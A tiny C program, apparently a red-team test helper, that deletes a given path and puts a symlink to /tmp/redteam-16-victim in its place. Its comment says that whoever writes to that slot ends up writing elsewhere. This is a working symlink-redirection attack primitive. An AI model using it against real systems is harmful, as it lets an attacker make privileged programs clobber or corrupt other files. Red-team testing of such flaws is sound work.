/* Whoever writes to the slot writes elsewhere. */
#define _POSIX_C_SOURCE 200809L
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 2)
		return 1;
	unlink(argv[1]);
	return symlink("/tmp/redteam-16-victim", argv[1]) != 0;
}
